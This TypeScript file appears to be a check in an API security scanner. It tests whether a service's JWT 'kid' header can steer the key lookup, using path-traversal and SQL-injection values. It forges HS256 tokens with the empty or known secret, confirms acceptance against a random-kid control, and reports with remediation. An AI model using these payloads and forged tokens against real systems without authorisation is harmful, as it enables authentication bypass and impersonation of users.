import { randomBytes } from 'node:crypto';
import { defineCheck } from '../define-check.js';
import { replaceJwt } from '../identities/apply-credentials.js';
import { encodeHmacJwt } from '../jwt/forge-jwt.js';
import { selectForgeryProbes } from '../jwt/select-forgery-probes.js';
import { locateRequest } from '../locate-request.js';

/**
 * `kid` values that make a key lookup return bytes the scanner knows, and those bytes: a path to an empty
 * file (file-based key stores) and a SQL injection that selects a literal (database key stores).
 */
export const KID_INJECTIONS: ReadonlyArray<{
  readonly name: string;
  readonly kid: string;
  readonly secret: string;
}> = [
  { name: 'path traversal to /dev/null', kid: '../../../../../../../../dev/null', secret: '' },
  { name: 'absolute path /dev/null', kid: '/dev/null', secret: '' },
  {
    name: 'SQL injection selecting a literal',
    kid: "x' UNION SELECT 'rampart-kid-key' -- ",
    secret: 'rampart-kid-key',
  },
];

export const api2JwtKidInjection = defineCheck({
  id: 'api2-jwt-kid-injection',
  title: 'JWT kid header used to load the key unsafely (path traversal or SQL injection)',
  severity: 'critical',
  owasp: 'API2',
  cwe: 347,
  maxRequests: 25,
  description:
    "The identity's own claims are signed with HS256 under a `kid` that points the key lookup at a value the " +
    "scanner knows: `../../…/dev/null` and `/dev/null` with an empty secret, and `' UNION SELECT '…' --` with " +
    'the selected literal. Reported when the API accepts such a token while it refuses the same token with a ' +
    'wrong signature; a second request with a random kid and the same secret tells whether the kid or the ' +
    'empty secret alone did it.',
  remediation:
    'Treat kid as untrusted input: look it up in an in-memory map of your own keys (never as a file path or ' +
    'in a SQL string), pin the algorithm per key, and refuse empty HMAC keys (RFC 8725 sections 3.1 and 3.10).',
  async run(ctx) {
    for (const probe of await selectForgeryProbes(ctx, ['rsa', 'ec', 'hmac'])) {
      for (const injection of KID_INJECTIONS) {
        const sign = (kid: string) =>
          encodeHmacJwt(
            { ...probe.decoded.header, alg: 'HS256', kid },
            probe.decoded.payload,
            injection.secret,
          );
        const credentials = replaceJwt(probe.credentials, probe.jwt, sign(injection.kid));
        const response = await probe.send(credentials);
        if (!probe.accepted(response)) continue;
        const random = await probe.send(
          replaceJwt(probe.credentials, probe.jwt, sign(`rampart-${randomBytes(4).toString('hex')}`)),
        );
        const kidMatters = !probe.accepted(random);
        const secretName = injection.secret === '' ? 'an empty secret' : `the secret "${injection.secret}"`;
        await ctx.report({
          ...locateRequest(ctx.model, ctx.target, probe.request),
          message: kidMatters
            ? `a token with kid ${JSON.stringify(injection.kid)} (${injection.name}), signed with HS256 and ${secretName}, carrying ${probe.session.name}'s claims, was accepted by ${probe.request.method} ${new URL(probe.request.url).pathname}`
            : `a token carrying ${probe.session.name}'s claims signed with HS256 and ${secretName} was accepted by ${probe.request.method} ${new URL(probe.request.url).pathname} whatever its kid`,
          summary: kidMatters
            ? `the kid steered the key lookup: the forged token got ${response.status}, the same one with a random kid got ${random.status}, a wrong signature got ${probe.control.status}`
            : `the forged token got ${response.status} with the injected kid and ${random.status} with a random one, while a wrong signature got ${probe.control.status}`,
          oracle: kidMatters ? 'kid-injection-forged-token-accepted' : 'known-hmac-secret-accepted',
          confidence: 'certain',
          snippet: `header: {"alg":"HS256","kid":${JSON.stringify(injection.kid)}}; HMAC secret: ${injection.secret === '' ? '(empty)' : JSON.stringify(injection.secret)}`,
          responses: [probe.baseline, probe.control, random, response],
          tags: ['jwt', 'header-injection'],
          confirm: async () => probe.acceptedWhileControlRefused(await probe.send(credentials)),
        });
        return;
      }
    }
  },
});
